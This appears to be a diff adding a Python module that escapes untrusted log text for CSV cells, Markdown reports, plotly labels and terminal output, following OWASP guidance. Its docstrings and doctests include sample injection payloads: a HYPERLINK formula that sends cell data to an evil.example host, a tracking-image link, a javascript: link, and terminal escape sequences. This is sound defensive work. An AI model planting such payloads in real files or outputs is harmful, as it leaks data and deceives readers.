@@ -1,0 +1,139 @@
+"""Log text made safe for the places it is shown: CSV, Markdown, plotly, the terminal.
+
+Logs are untrusted input: anyone who can make a service log a line (a request path, a
+user name, a CI job's executor name) writes into our outputs. Each rule below says what
+it guards against and which OWASP guidance it follows. Every output path uses these
+functions; none escapes on its own.
+"""
+
+from __future__ import annotations
+
+import re
+from html import escape as _html_escape
+from typing import Any
+
+import polars as pl
+
+# --- CSV ---------------------------------------------------------------------------------
+
+#: A cell that starts with one of these is read as a formula by spreadsheet programs.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_cell(value: Any) -> str:
+    """A CSV cell that a spreadsheet will show as text, never run as a formula.
+
+    OWASP, *CSV Injection*: a cell beginning with ``=``, ``+``, ``-``, ``@``, tab or
+    carriage return is a formula to Excel, LibreOffice and Google Sheets
+    (``=HYPERLINK("http://evil.example?"&A1, "click")`` leaks data; DDE formulas run
+    programs). The guidance is to prefix such cells with a single quote, which the
+    spreadsheet takes as "this is text" and hides; quoting the field alone is not enough.
+    The writer's own quoting then handles commas, quotes and line breaks.
+
+    >>> csv_cell('=HYPERLINK("http://evil.example")'), csv_cell("-5 retries"), csv_cell("ok")
+    ('\\'=HYPERLINK("http://evil.example")', "'-5 retries", 'ok')
+    """
+    text = "" if value is None else str(value)
+    return "'" + text if text.startswith(FORMULA_STARTS) else text
+
+
+def csv_safe(frame: pl.DataFrame) -> pl.DataFrame:
+    """``frame`` with every string cell passed through the :func:`csv_cell` rule.
+
+    Only string columns change: numbers and times are written by the CSV writer as
+    values, and a negative number is data, not a formula, in a numeric column.
+    """
+    starts = "^[" + re.escape("".join(FORMULA_STARTS)) + "]"
+    return frame.with_columns(
+        pl.when(pl.col(pl.String).str.contains(starts))
+        .then(pl.lit("'") + pl.col(pl.String))
+        .otherwise(pl.col(pl.String))
+        .name.keep()
+    )
+
+
+# --- Markdown ----------------------------------------------------------------------------
+
+#: Characters that start Markdown syntax that could do harm or break the layout: links
+#: and images (``[``, ``]``), code spans (a backtick), tables (``|``) and the backslash
+#: that would undo these escapes. Emphasis is left alone: it changes only how text looks.
+_MARKDOWN_SYNTAX = re.compile(r"([\\`\[\]|])")
+
+
+def markdown_text(value: Any) -> str:
+    r"""Text that renders as the same text in Markdown, never as markup.
+
+    OWASP, *Cross Site Scripting Prevention* (output encoding for the context): a
+    Markdown report is read in renderers that allow inline HTML and fetch images, so
+    ``![t](http://evil.example/x.png)`` in a change log would load a tracking image and
+    ``[click](javascript:...)`` would be a live link. HTML is entity-encoded (no tag, no
+    autolink ``<http://...>``), and the characters that open links, images, code spans and
+    table cells are backslash-escaped. Line breaks, CR included, would end a table row or
+    a list item and let the rest of the text stand as its own Markdown: they become spaces.
+
+    >>> markdown_text("![t](http://evil.example/x.png) | a\r<b>")
+    '!\\[t\\](http://evil.example/x.png) \\| a &lt;b&gt;'
+    """
+    text = "" if value is None else str(value)
+    text = _html_escape(text, quote=False)
+    return _one_line(_MARKDOWN_SYNTAX.sub(r"\\\1", text))
+
+
+def markdown_code(value: Any) -> str:
+    r"""Text for inside a Markdown code span (in a table cell).
+
+    A code span shows its content literally, except that a backtick ends it and, in a
+    table, a pipe ends the cell; CR and LF end the row. Backticks become ``'``, pipes are
+    escaped, CR and LF become spaces: the text can never leave its span (OWASP: encode
+    for the exact context the data lands in).
+
+    >>> markdown_code("a`b|c\rd")
+    "a'b\\|c d"
+    """
+    text = "" if value is None else str(value)
+    return _one_line(text.replace("`", "'").replace("|", "\\|"))
+
+
+def _one_line(text: str) -> str:
+    return text.replace("\r\n", " ").replace("\r", " ").replace("\n", " ")
+
+
+# --- plotly ------------------------------------------------------------------------------
+
+
+def plotly_text(value: Any) -> str:
+    """Text for any string plotly renders: trace and legend names, titles, axis titles,
+    annotations and hover text.
+
+    Plotly renders a subset of HTML in all of these (``<a href>``, ``<b>``, ``<br>``,
+    ``<span style>``), so an executor name ``<a href="http://evil.example">X</a>`` would be
+    a live link in the legend. OWASP, *Cross Site Scripting Prevention*, rule 1: HTML-encode
+    untrusted data before it enters an HTML context. Plotly decodes the entities when it
+    draws the text, so the reader sees the original characters as plain text.
+
+    >>> plotly_text('<a href="http://evil.example">X</a>')
+    '&lt;a href=&quot;http://evil.example&quot;&gt;X&lt;/a&gt;'
+    """
+    return _html_escape("" if value is None else str(value), quote=True)
+
+
+# --- terminal ----------------------------------------------------------------------------
+
+_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\ud800-\udfff]")
+
+
+def terminal_text(value: Any) -> str:
+    r"""Text safe to print on a terminal: control characters shown as escapes.
+
+    OWASP, *Log Injection* / terminal escape injection: ESC sequences in a file name or log
+    line can clear the screen (``\x1b[2J``), retitle the window (``\x1b]0;...\a``), hide
+    text or, on some terminals, write files. Every C0 and C1 control character except tab
+    and line feed, plus DEL, is shown as a visible ``\xNN`` escape instead of being sent.
+    So is each byte of a file name that is not UTF-8 (kept as a lone surrogate by
+    Python's ``surrogateescape``), which a terminal could not be sent at all.
+
+    >>> terminal_text("bad\x1b[2Jname\x07.log"), terminal_text("bad\udcff.log")
+    ('bad\\x1b[2Jname\\x07.log', 'bad\\xff.log')
+    """
+    text = "" if value is None else str(value)
+    return _CONTROL.sub(lambda m: f"\\x{ord(m.group()) & 0xFF:02x}", text)
